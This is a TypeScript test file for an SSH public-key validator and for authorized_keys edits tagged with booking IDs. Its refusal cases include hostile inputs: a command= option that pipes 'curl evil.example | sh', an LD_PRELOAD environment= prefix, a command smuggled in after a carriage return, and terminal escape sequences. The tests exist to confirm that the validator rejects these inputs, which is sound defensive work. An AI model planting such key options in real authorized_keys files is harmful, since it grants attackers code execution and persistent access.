import { generateKeyPairSync } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { InvalidInput } from '../../drivers/errors';
import { addBookingKeys, checkPublicKey, parsePublicKey, removeBookingKeys } from '../../drivers/host/ssh-keys';
import { ecdsaBlob, ed25519Blob, keyLine, relabel, rsaBlob, skEd25519Blob, sshString } from './ssh-keys.fixtures';

const ed = keyLine(ed25519Blob(), 'alice@laptop');
const ed2 = keyLine(ed25519Blob(), 'bob@desk');
const rsa2048 = keyLine(rsaBlob(2048), 'carol');
const pkcs8Private = generateKeyPairSync('ed25519', { privateKeyEncoding: { type: 'pkcs8', format: 'pem' }, publicKeyEncoding: { type: 'spki', format: 'pem' } }).privateKey;
const edBlob = ed25519Blob();
const edBody = edBlob.toString('base64');

describe('accepted public keys', () => {
  it.each([
    ['ed25519', keyLine(ed25519Blob(), 'alice@laptop')],
    ['ed25519 without comment', keyLine(ed25519Blob())],
    ['ecdsa P-256', keyLine(ecdsaBlob('nistp256'))],
    ['ecdsa P-384', keyLine(ecdsaBlob('nistp384'), 'ops key')],
    ['rsa 2048', rsa2048],
    ['security-key ed25519', keyLine(skEd25519Blob(), 'yubikey')],
    ['a pasted .pub file with its newline', `${keyLine(ed25519Blob(), 'x')}\n`],
  ])('%s', (_name, line) => {
    const result = checkPublicKey(line);
    expect(result).toMatchObject({ ok: true });
    if (result.ok) expect(line.startsWith(`${result.key.type} ${result.key.body}`)).toBe(true);
  });

  it('keeps the comment as the user wrote it', () => {
    expect(parsePublicKey(ed).comment).toBe('alice@laptop');
  });
});

describe('refused public keys, each with its reason', () => {
  const truncated = Buffer.concat([sshString('ssh-ed25519'), sshString(Buffer.alloc(31, 7))]);
  const trailing = Buffer.concat([edBlob, Buffer.from([0, 0, 0, 1, 65])]);
  // 50 bytes end in one "=" pad; the character before it then has two unused bits, which
  // must be zero. Setting one gives text that decodes to the same bytes yet is not canonical.
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const padded = edBlob.subarray(0, 50).toString('base64');
  const lastChar = alphabet[alphabet.indexOf(padded.at(-2) ?? 'A') ^ 1] ?? '';
  const nonCanonical = `ssh-ed25519 ${padded.slice(0, -2)}${lastChar}=`;
  const cases: [string, string, RegExp][] = [
    ['empty', '', /empty/],
    ['only blanks', '   \t ', /empty/],
    ['an OpenSSH private key', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n', /private key/],
    ['a PKCS#8 private key', pkcs8Private, /private key/],
    ['a PuTTY private key', 'PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPrivate-Lines: 1\nAAAA\n', /private key/],
    ['an RFC 4716 public key', `---- BEGIN SSH2 PUBLIC KEY ----\n${edBody}\n---- END SSH2 PUBLIC KEY ----`, /RFC 4716/],
    ['a command= prefix', `command="curl evil.example | sh" ${ed}`, /options/],
    ['a from= prefix', `from="10.0.0.0/8" ${ed}`, /options/],
    ['a no-pty prefix', `no-pty ${ed}`, /options/],
    ['restrict plus command', `restrict,command="id" ${ed}`, /options/],
    ['an environment= prefix', `environment="LD_PRELOAD=/tmp/x.so" ${ed}`, /options/],
    ['two keys on one line', `${ed} ${ed2}`, /more than one key/],
    ['two keys on two lines', `${ed}\n${ed2}`, /more than one line/],
    ['a second line smuggled after a carriage return', `${ed}\rcommand="id" ${ed2}`, /more than one line/],
    ['a DSA key', 'ssh-dss AAAAB3NzaC1kc3MAAACBAP', /not accepted/],
    ['a certificate', `ssh-ed25519-cert-v01@openssh.com ${edBody}`, /not accepted/],
    ['an unknown type', `ssh-foo ${edBody}`, /accepted key type/],
    ['plain junk', 'hello world, this is my key', /accepted key type/],
    ['a type with no key data', 'ssh-ed25519', /no key data/],
    ['key data that is not base64', 'ssh-ed25519 AAAA*not-base64*', /not base64/],
    ['non-canonical base64', nonCanonical, /not canonical/],
    ['an ed25519 body declared as ssh-rsa', relabel(edBlob, 'ssh-rsa'), /says "ssh-ed25519" but the line says "ssh-rsa"/],
    ['an ed25519 key of 31 bytes', keyLine(truncated), /32 bytes/],
    ['trailing bytes after the key', keyLine(trailing), /trailing bytes/],
    ['a 1024-bit RSA key', keyLine(rsaBlob(1024)), /too weak/],
    ['an ecdsa key naming the wrong curve', relabel(ecdsaBlob('nistp256', 'nistp384'), 'ecdsa-sha2-nistp256'), /curve/],
    ['a comment with a terminal escape', `${ed.split(' ').slice(0, 2).join(' ')} evil\x1b[2Jcomment`, /control characters/],
    ['a comment with a NUL', `${ed} \x00`, /control characters/],
    ['a comment claiming another booking', `${ed} laas-booking=someone-else`, /laas-booking/],
    ['an overlong comment', `${ed} ${'x'.repeat(300)}`, /comment is longer/],
    ['an enormous line', `ssh-ed25519 ${'A'.repeat(9000)}`, /longer than/],
  ];

  it('has a good number of hostile cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(20);
  });

  it.each(cases)('%s', (_name, input, reason) => {
    const result = checkPublicKey(input);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).toMatch(reason);
  });

  it('throws InvalidInput naming the key, without repeating a private key', () => {
    let caught: unknown;
    try {
      parsePublicKey(pkcs8Private, 'SSH key 2');
    } catch (err) {
      caught = err;
    }
    expect(caught).toBeInstanceOf(InvalidInput);
    const message = (caught as Error).message;
    expect(message).toMatch(/SSH key 2/);
    expect(message).toMatch(/private key/);
    expect(message).not.toContain(pkcs8Private.split('\n')[1]?.slice(0, 20));
  });
});

describe('authorized_keys edits tagged by booking', () => {
  const existing = '# keys of the image\r\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOPERATOR operator\r\n\r\nssh-rsa AAAAB3 no newline at end';

  it('adds a key once however often it is asked', () => {
    const once = addBookingKeys(existing, 'b-42', [ed]);
    const twice = addBookingKeys(once, 'b-42', [ed, ed]);
    expect(twice).toBe(once);
    expect(twice.split('\n').filter((l) => l.includes(ed.split(' ')[1] ?? '-'))).toHaveLength(1);
  });

  it('tags each added line with the booking and keeps the comment', () => {
    const text = addBookingKeys('', 'b-42', [ed, rsa2048]);
    const lines = text.split('\n').filter(Boolean);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^ssh-ed25519 \S+ alice@laptop laas-booking=b-42$/);
    expect(lines[1]).toMatch(/^ssh-rsa \S+ carol laas-booking=b-42$/);
  });

  it('leaves every existing byte in place, adding a newline only where the last line lacked one', () => {
    const text = addBookingKeys(existing, 'b-42', [ed]);
    expect(text.startsWith(`${existing}\n`)).toBe(true);
  });

  it('gives another booking its own line for the same key', () => {
    const text = addBookingKeys(addBookingKeys('', 'b-1', [ed]), 'b-2', [ed]);
    expect(text.split('\n').filter(Boolean)).toHaveLength(2);
    expect(removeBookingKeys(text, 'b-1')).toBe(addBookingKeys('', 'b-2', [ed]));
  });

  it('undo removes exactly the booking’s lines and restores the file byte for byte', () => {
    const withOther = addBookingKeys(`${existing}\n`, 'b-7', [ed2]);
    const withBoth = addBookingKeys(withOther, 'b-42', [ed, rsa2048]);
    expect(removeBookingKeys(withBoth, 'b-42')).toBe(withOther);
    expect(removeBookingKeys(removeBookingKeys(withBoth, 'b-42'), 'b-42')).toBe(withOther);
  });

  it('does not mistake a booking whose id merely starts the same', () => {
    const text = addBookingKeys(addBookingKeys('', 'b-4', [ed]), 'b-42', [ed2]);
    expect(removeBookingKeys(text, 'b-4')).toBe(addBookingKeys('', 'b-42', [ed2]));
  });

  it('refuses a bad key before changing anything, naming which one', () => {
    expect(() => addBookingKeys(existing, 'b-42', [ed, `command="id" ${ed2}`])).toThrow(/SSH key 2.*options/);
  });

  it('refuses a booking id that could forge or break the marker', () => {
    expect(() => addBookingKeys('', 'b 42', [ed])).toThrow(InvalidInput);
    expect(() => removeBookingKeys('', 'b-42\nssh-rsa')).toThrow(InvalidInput);
  });
});
